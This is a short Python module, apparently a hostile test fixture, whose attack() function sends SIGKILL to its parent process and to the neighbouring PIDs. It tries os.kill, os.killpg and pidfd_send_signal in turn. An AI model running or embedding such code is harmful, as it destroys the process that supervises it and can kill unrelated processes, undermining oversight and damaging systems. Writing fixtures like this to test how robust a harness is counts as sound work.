"""Kills whatever its parent is."""

import os
import signal


def attack():
    parent = os.getppid()
    for victim in {parent, parent - 1, parent + 1} - {0, 1, os.getpid(), -1}:
        for send in (
            os.kill,
            os.killpg,
            lambda p, s: signal.pidfd_send_signal(os.pidfd_open(p), s),
        ):
            try:
                send(victim, signal.SIGKILL)
                return True
            except OSError:
                continue
    return False
